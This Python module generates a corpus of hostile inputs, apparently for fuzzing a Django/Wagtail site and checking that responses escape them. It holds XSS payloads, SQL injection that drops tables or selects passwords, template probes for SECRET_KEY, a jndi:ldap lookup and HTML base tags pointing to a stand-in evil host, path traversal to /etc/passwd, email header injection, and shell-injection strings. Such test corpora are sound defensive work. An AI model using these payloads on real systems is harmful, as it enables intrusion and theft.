"""A corpus of hostile values, built by code (issue 12).

Every value has an id (``hx0001``…) that it carries as a marker wherever its meaning allows
(a number or a date must stay a number or a date, so those carry it only in their id), and
``danger``: the fragments that must never appear verbatim in an HTML response, because they
would mean the value (or a decoded form of it) went into the page without escaping.

``raw`` values are already percent-encoded (invalid UTF-8 and the like: lone surrogates
cannot travel over HTTP) and are put into a query string or url-encoded body as they are.
"""

import dataclasses
import datetime
import html
import random
import unicodedata
from urllib.parse import quote

CORE = "core"  # the most dangerous classes: every parameter gets these


@dataclasses.dataclass(frozen=True)
class Hostile:
    id: str
    category: str
    text: str | None = None  # sent through the client's normal encoding
    raw: str | None = None  # already percent-encoded, sent verbatim
    danger: tuple = ()  # fragments that must never be in an HTML response verbatim
    core: bool = False

    @property
    def marker(self):
        return self.id

    def short(self, limit=80):
        value = self.text if self.text is not None else self.raw
        shown = repr(value)
        return shown if len(shown) <= limit else f"{shown[: limit - 20]}…[{len(value)} chars]"

    def query_value(self):
        """The value as it appears after ``name=`` in a query string or url-encoded body."""
        if self.raw is not None:
            return self.raw
        return quote(self.text, safe="")


UTF7 = {"<": "+ADw-", ">": "+AD4-", '"': "+ACI-", "'": "+ACc-", "=": "+AD0-"}


def utf7(text):
    """UTF-7 in the style of the classic IE attack: ``<`` as ``+ADw-``, ``>`` as ``+AD4-``."""
    return "".join(UTF7.get(ch, ch) for ch in text)


def fullwidth(text):
    return "".join(chr(ord(ch) + 0xFEE0) if "!" <= ch <= "~" else ch for ch in text)


def entities_decimal(text):
    return "".join(f"&#{ord(ch)};" if ch in "<>\"'=/" else ch for ch in text)


def entities_hex(text):
    return "".join(f"&#x{ord(ch):x};" if ch in "<>\"'=/" else ch for ch in text)


def percent(text):
    return quote(text, safe="")


def mixed_case(text):
    return "".join(ch.upper() if i % 2 else ch.lower() for i, ch in enumerate(text))


# XSS payloads: ``{m}`` is the marker, placed right after the dangerous token, so the danger
# fragment (the payload up to and including the marker) proves an unescaped reflection.
XSS = [
    "<script>{m}</script>",
    "<script>alert('{m}')</script>",
    "<img src=x onerror={m}>",
    "<svg onload={m}>",
    "<svg/onload={m}>",
    "<svg><script>{m}</script></svg>",
    "<iframe src=javascript:{m}>",
    "<body onload={m}>",
    "<a href=javascript:{m}>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror={m}>",
    "<details open ontoggle={m}>",
    "<input autofocus onfocus={m}>",
    "<video><source onerror={m}>",
    "<object data=javascript:{m}>",
    "<base href=//evil.example/{m}>",
    "<meta http-equiv=refresh content=0;url=javascript:{m}>",
    "<style>@import'//evil.example/{m}'</style>",
    "<x onclick={m}>",
    "<!--<img src=x onerror={m}>-->",
    "<scr<script>ipt>{m}</script>",
    "<textarea></textarea><script>{m}</script>",
    "</title><script>{m}</script>",
    "</script><script>{m}</script>",
    '<noscript><p title="</noscript><img src=x onerror={m}>">',
    "<![CDATA[<script>{m}</script>]]>",
]
ATTRIBUTE_BREAKOUTS = [
    '" onmouseover={m} x="',
    "' onmouseover={m} x='",
    '"><script>{m}</script>',
    "'><script>{m}</script>",
    '" autofocus onfocus={m} "',
    "` onmouseover={m} `",
    '"/><svg onload={m}>',
    '" style="background:url(javascript:{m})',
    '" ><img src=x onerror={m}><"',
    "'-alert('{m}')-'",
    "\";alert('{m}');//",
    "</a><a href=javascript:{m}>",
]
JS_URLS = [
    "javascript:alert('{m}')",
    "JaVaScRiPt:alert('{m}')",
    "java\tscript:alert('{m}')",
    " javascript:alert('{m}')",
    "javascript&colon;alert('{m}')",
    "&#106;avascript:alert('{m}')",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{m}",
    "vbscript:msgbox('{m}')",
    "//evil.example/{m}",
    "https://evil.example/{m}",
]
SQL = [
    "' OR '1'='1 {m}",
    "' OR 1=1-- {m}",
    "'; DROP TABLE wagtailcore_page; -- {m}",
    "1' UNION SELECT username, password FROM auth_user-- {m}",
    '" OR ""="{m}',
    "%' AND 1=1 -- {m}",
    "\\'; SELECT pg_sleep(0); -- {m}",
    "1; SELECT 1/0; -- {m}",
    "{m}' || (SELECT version()) || '",
    "admin'/*{m}*/--",
    "1 AND (SELECT COUNT(*) FROM sqlite_master) > 0 {m}",
    "{m}\\",
    "{m}'",
    "'{m}",
    "''''''''''{m}",
    "{m}%",
    "{m}_",
    "{m}%_%\\%",
]
FTS = [
    '"',
    '"{m}',
    '{m}"',
    '""',
    '"""',
    "*",
    "{m}*",
    "*{m}",
    "NEAR",
    "NEAR({m} giáo)",
    "{m} NEAR/2 dục",
    "AND",
    "OR",
    "NOT",
    "{m} AND",
    "OR {m}",
    "NOT {m}",
    "{m} AND OR NOT",
    "(",
    ")",
    "({m}",
    "{m})",
    "(((((({m}",
    "{m} ( ) ( )",
    "-{m}",
    "--{m}",
    "{m} --",
    ";",
    "{m};",
    "{m}:*",
    "title:{m}",
    "{m} & tuyển",
    "{m} | sinh",
    "!{m}",
    "{m} <-> giáo",
    "{m} <2> dục",
    "^{m}",
    "+{m}",
    "{m}:",
    ":",
    "{{m} giáo}",
    '"giáo dục" "{m}',
    "'{m}' 'x",
    "\\",
    '{m}\\"',
    "a:*:*:*",
    "{m} " * 60,
    "OR " * 300 + "{m}",
    '" ' * 200 + "{m}",
    "33/QĐ-GDĐT' OR '1'='1 {m}",
    '33/QĐ-GDĐT" {m}',
    "/{m}/-/QĐ/",
    "%/%-%{m}",
]
TEMPLATES = [
    ("{m}{{ request.method }}", ("{m}GET", "{m}POST")),
    ("{m}{{ 7*7 }}", ("{m}49",)),
    ("{m}{% now 'Y' %}", ("{m}" + str(datetime.date.today().year),)),
    ("{m}{% debug %}", ("{m}{'",)),
    ("{m}{{ settings.SECRET_KEY }}", ("{m}test-only",)),
    ("{m}{% load static %}{% static 'x' %}", ("{m}/static/x",)),
    ("{m}{{ ''.__class__.__mro__ }}", ("{m}(<class",)),
    ("{m}${7*7}", ("{m}49",)),
    ("{m}#{7*7}", ("{m}49",)),
    ("{m}<%= 7*7 %>", ("{m}49", "{m}<%= 7*7 %>")),
    ("{m}{{", ()),
    ("{m}{%", ()),
    ("{m}}}", ()),
    ("{m}{# comment #}", ()),
    ("{m}%s%s%s%s%n", ()),
    ("{m}%(password)s", ()),
    ("{m}{0}{1}{self.__class__}", ()),
    ("{m}${jndi:ldap://evil.example/x}", ()),
]
CONTROL = [
    "{m}\x00",
    "\x00{m}",
    "a\x00b{m}",
    "{m}" + "".join(chr(i) for i in range(1, 32)),
    "{m}\x7f\x80\x85\x9f",
    "{m}\u2028\u2029",
    "{m}\ufeff",
    "{m}\ufffe\uffff",
    "{m}\U0010ffff",
    "{m}\r\n\r\n",
    "{m}\t\t\t",
    "{m}\b\b\b",
    "{m}\x1b[31m",
    "\x00" * 50 + "{m}",
]
INVALID_UTF8 = [
    "%C3%28",
    "%FF",
    "%FE%FF",
    "%C0%AF",
    "%ED%A0%80",
    "%F4%90%80%80",
    "%80",
    "%E2%82",
    "%C0%80",
    "%F8%88%80%80%80",
]
OVERLONG = [
    ("a", 10_000),
    ("a", 100_000),
    ("ệ", 10_000),
    ("<", 10_000),
    ('"', 10_000),
    ("x ", 5_000),
    ("giáo dục ", 1_200),
    ("%", 10_000),
    ("9", 10_000),
    ("'", 10_000),
    ("\u0301", 10_000),
    ("👨\u200d👩\u200d👧\u200d👦", 2_000),
]
NFC_EXPANDING = [
    ("\u0344", 100),
    ("\u0958", 300),
    ("\u0344", 101),
    ("\u0344", 201),
    ("\u0958", 101),
    ("\u0958", 51),
    ("\ufb2c", 100),
    ("\u0958", 2_501),
    ("\u0344", 2_501),
    ("\u0344", 7),
    ("\u1f82", 300),
    ("\u0958", 6),
]
VIETNAMESE = [
    "Nguyễn Thị Hồng Nhung",
    "Tuyển sinh vào lớp 6 năm học 2026–2027",
    "Trường Trung học cơ sở Ba Sao",
    "Phòng Giáo dục và Đào tạo Kim Bảng",
    "33/QĐ-GDĐT",
    "Đề nghị hướng dẫn việc đánh giá học sinh tiểu học",
]
COMBINING_ONLY = [
    "\u0301" * 50,
    "\u0300\u0301\u0303\u0309\u0323" * 20,
    "\u0323" * 300,
    "\u0336" * 10,
    "\u20dd" * 40,
    "z\u0301\u0300\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309" * 30,
]
RTL_ZERO_WIDTH = [
    "\u202e{m}gpj.exe",
    "\u202dtin\u202c{m}",
    "\u2066\u2067\u2068{m}\u2069",
    "\u200f{m}\u200e",
    "giá\u200bo d\u200cục {m}",
    "\u200d\u2060{m}\u2060",
    "\u061c{m}\u061c",
    "{m}\u180e\u3164\u115f",
    "\u202e" * 100 + "{m}",
]
NUMBERS = [
    "99999999999999999999",
    "-1",
    "0",
    "-0",
    "1e309",
    "-1e309",
    "1e-309",
    "NaN",
    "nan",
    "inf",
    "-inf",
    "Infinity",
    "1.5",
    "0x10",
    "1_000",
    "１２",
    "٣",
    "2147483648",
    "9223372036854775807",
    "9223372036854775808",
    "-9223372036854775809",
    " 1",
    "1 ",
    "+1",
    "00000000000000000000001",
    "1" * 400,
    "1,5",
    "0.0000000001",
    "-99999999999999999999",
    "1e1000000",
    "1945",
    "2100",
    "10000",
]
DATES = [
    "9999-12-31",
    "0001-01-01",
    "2026-02-30",
    "00/00/0000",
    "0000-00-00",
    "2026-13-01",
    "2026-00-10",
    "31/12/9999",
    "10000-01-01",
    "-0001-01-01",
    "2026-02-29",
    "2024-02-29",
    "1900-02-29",
    "1969-12-31",
    "2038-01-19",
    "2026-W01",
    "2026-1-1",
    "١٢/١٢/٢٠٢٠",
    "2026-01-01T00:00:00Z",
    "2026-01-01 25:61",
    "1999-12-31T23:59:60",
    "30/02/2026",
    "99/99/9999",
    "1/1/1",
    "2099-12-31",
    "2100-01-01",
    "1999-12-31",
    "2000-01-01",
    "9999-99-99",
    "2026-06-31",
]
TRAVERSAL = [
    "../../etc/passwd",
    "../../../../../../../../etc/passwd{m}",
    "..%2f..%2fetc%2fpasswd{m}",
    "%2e%2e%2f%2e%2e%2f{m}",
    "%252e%252e%252f{m}",
    "..\\..\\windows\\win.ini{m}",
    "/etc/passwd",
    "file:///etc/passwd#{m}",
    "....//....//{m}",
    "..;/..;/{m}",
    "/dev/zero",
    "{m}/../../../settings.py",
    "CON",
    "NUL.txt",
]
HEADER_INJECTION = [
    "{m}\r\nBcc: victim@evil.example",
    "{m}\nBcc: victim@evil.example",
    "{m}\rBcc: victim@evil.example",
    "{m}\r\nX-Injected: {m}",
    "{m}%0d%0aBcc: victim@evil.example",
    "=?utf-8?q?{m}=0D=0ABcc:_victim@evil.example?=",
    "{m}\r\n\r\n<html>injected body",
    "{m}\u0085Bcc: victim@evil.example",
]
EMAILS = [
    "a@b",
    "{m}@example.com\r\nBcc: victim@evil.example",
    '"a b {m}"@example.com',
    "reader+{m}@example.com",
    "{m}@[127.0.0.1]",
    "{m}@localhost",
    "a..{m}@example.com",
    ".{m}@example.com",
    "{m}@example.com.",
    "x" * 65 + "{m}@example.com",
    "{m}@" + "b" * 64 + ".com",
    "{m}@" + ("d" * 63 + ".") * 4 + "com",
    "nguyễn.{m}@trường.vn",
    "{m}@xn--trng-jua.vn",
    "{m}@example.com, b@example.com",
    "{m}@example.com;b@example.com",
    "<{m}@example.com>",
    "Tên <{m}@example.com>",
    '{m}"<script>@example.com',
    "{m}'><svg onload=x>@example.com",
    "{m}@example.com%0aBcc:x@evil.example",
    "{m}@exa mple.com",
    "@example.com",
    "{m}@",
    "{m}＠example.com",
    "{m}@example.com\x00",
    "{m}@EXAMPLE.COM",
    "postmaster@{m}.example",
]
MISC = [
    "",
    " ",
    "   \t\n  ",
    "[]",
    "{}",
    "null",
    "undefined",
    "true",
    "None",
    '{"$gt": ""}',
    "__proto__",
    "constructor",
    "*)(uid=*))(|(uid=*",
    "' or name()='{m}",
    "$(id){m}",
    "`id`{m}",
    "| id {m}",
    "; ls -la {m}",
    "{m}&page=2&category=office",
    "{m}#fragment",
    "{m}?x=1",
    "&",
    "=",
    "?",
    "#",
    "%",
    "+",
    "%00",
    "%%",
    "{m}%zz",
    "👨\u200d👩\u200d👧\u200d👦" * 50 + "{m}",
    "ＡＤＭＩＮ{m}",
    "аdmin{m}",
    "\ud7ff\ue000{m}",
    "𝕳𝖔𝖘𝖙𝖎𝖑𝖊{m}",
    "ﷺ" * 100 + "{m}",
    "{m}\u00ad\u00ad",
    "Ǆǅǆ ß ﬁ İ ı {m}",
    "{m}" + "\u0e3f" * 10,
    "<{m}>",
    "</{m}>",
    "<!--{m}",
    "]]>{m}",
    "&amp;{m}&lt;",
    "&#0;{m}",
    "&#x110000;{m}",
]


def _first_marker_fragment(payload, marker):
    """The payload up to and including its marker: the fragment whose verbatim presence proves harm."""
    index = payload.find(marker)
    return payload[: index + len(marker)] if index >= 0 else payload


def build_corpus(seed=12):
    """The corpus: a list of ``Hostile`` values with unique ids, in a fixed order."""
    values = []
    pending = []

    def next_marker():
        pending.append(f"hx{len(values) + 1:04d}")
        return pending[-1]

    def add(category, text=None, raw=None, danger=(), core=False):
        marker = pending.pop() if pending else f"hx{len(values) + 1:04d}"
        if text is not None:
            text = text.replace("{m}", marker)
        if raw is not None:
            raw = raw.replace("{m}", marker)
        danger = tuple(fragment.replace("{m}", marker) for fragment in danger if fragment)
        values.append(Hostile(marker, category, text, raw, danger, core))

    # XSS in many encodings. Only the decoded payload is dangerous: an app that decodes an
    # encoded form and then prints it raw shows it, one that escapes never does. The marker
    # itself is left as it is by every encoding, so it can still be found.
    encodings = [
        ("raw", lambda s: s),
        ("entity-decimal", entities_decimal),
        ("entity-hex", entities_hex),
        ("entity-named", lambda s: html.escape(s, quote=True)),
        ("percent", percent),
        ("double-percent", lambda s: percent(percent(s))),
        ("utf-7", utf7),
        ("fullwidth", fullwidth),
        ("mixed-case", mixed_case),
        ("nul-in-tag", lambda s: s.replace("<", "<\x00", 1)),
        ("newline-in-tag", lambda s: s.replace(" ", "\n", 1) if " " in s else s.replace(">", "\n>", 1)),
    ]
    for index, template in enumerate(XSS):
        for name, encode in encodings:
            marker = next_marker()
            before, after = template.split("{m}", 1)
            if name in ("mixed-case", "nul-in-tag", "newline-in-tag"):
                encoded_before = encode(before)  # the danger is the encoded form itself
                danger = encoded_before + marker
            else:
                encoded_before = encode(before)
                danger = before + marker
            text = encoded_before + marker + encode(after)
            add(f"xss/{name}", text=text, danger=(danger,), core=name == "raw" and index < 5)
    for index, template in enumerate(ATTRIBUTE_BREAKOUTS):
        # A backtick is not escaped by Django (no browser in use treats it as a quote): not proof.
        danger = (_first_marker_fragment(template, "{m}"),) if not template.startswith("`") else ()
        add("xss/attribute", text=template, danger=danger, core=index < 4)
        before, after = template.split("{m}", 1)
        add(
            "xss/attribute-percent",
            text=percent(before) + "{m}" + percent(after),
            danger=danger and (before + "{m}",),
        )
    for index, template in enumerate(JS_URLS):
        fragment = _first_marker_fragment(template, "{m}")
        dangers = tuple(f'{attr}="{fragment}' for attr in ("href", "src", "action", "formaction"))
        dangers += tuple(f"{attr}='{fragment}" for attr in ("href", "src"))
        dangers += tuple(f"{attr}={fragment}" for attr in ("href", "src"))
        add("xss/js-url", text=template, danger=dangers, core=index < 2)
    for index, template in enumerate(SQL):
        add("sql", text=template, core=index in (0, 12))
    for index, template in enumerate(FTS):
        add("fts", text=template, core=index in (0, 5, 9, 18))
    for index, (template, dangers) in enumerate(TEMPLATES):
        add("template", text=template, danger=dangers, core=index < 3)
    for index, template in enumerate(CONTROL):
        add("control", text=template, core=index in (0, 3))
    for index, sequence in enumerate(INVALID_UTF8):
        add("invalid-utf8", raw="{m}" + sequence, core=index < 2)
        add("invalid-utf8", raw=sequence + "{m}" + sequence)
    for index, (unit, count) in enumerate(OVERLONG):
        add("overlong", text="{m}" + unit * count, core=index in (0, 1))
    for index, (char, count) in enumerate(NFC_EXPANDING):
        add("nfc-expanding", text=char * count, core=index < 2)
        add("nfc-expanding", text="{m}" + char * count)
    for index, text in enumerate(VIETNAMESE):
        add("nfd-vietnamese", text=unicodedata.normalize("NFD", text) + " {m}", core=index == 0)
    add("nfd-vietnamese", text=unicodedata.normalize("NFD", "Ường Ộ Ữ Ỹ ệ " * 40) + "{m}")
    add("nfd-vietnamese", text=unicodedata.normalize("NFD", "Tiêu đề rất dài " * 12)[:200] + "{m}")
    for index, text in enumerate(COMBINING_ONLY):
        add("combining-only", text=text, core=index == 0)
    for index, template in enumerate(RTL_ZERO_WIDTH):
        add("rtl-zero-width", text=template, core=index == 0)
    for index, text in enumerate(NUMBERS):
        add("number", text=text, core=index in (0, 1, 4))
    for index, text in enumerate(DATES):
        add("date", text=text, core=index in (0, 1, 2))
    for index, template in enumerate(TRAVERSAL):
        add("traversal", text=template, core=index in (0, 2))
    add("traversal", raw="..%c0%af..%c0%af{m}")
    add("traversal", raw="%2e%2e%2f%2e%2e%2fetc%2fpasswd{m}")
    for index, template in enumerate(HEADER_INJECTION):
        add("header-injection", text=template, core=index in (0, 3))
    add("header-injection", raw="{m}%0D%0ABcc:%20victim@evil.example")
    for index, template in enumerate(EMAILS):
        dangers = (template.split("@")[0],) if "<script>" in template or "<svg" in template else ()
        add("email", text=template, danger=dangers, core=index in (1, 18))
    for index, template in enumerate(MISC):
        dangers = ()
        if template.startswith("<") and "{m}" in template:
            dangers = (_first_marker_fragment(template, "{m}"),)
        add("misc", text=template, danger=dangers, core=index == 0)

    ids = [value.id for value in values]
    assert len(ids) == len(set(ids))
    random.Random(seed).shuffle(values)  # deterministic order, classes mixed
    return values


CORPUS = build_corpus()
BY_ID = {value.id: value for value in CORPUS}
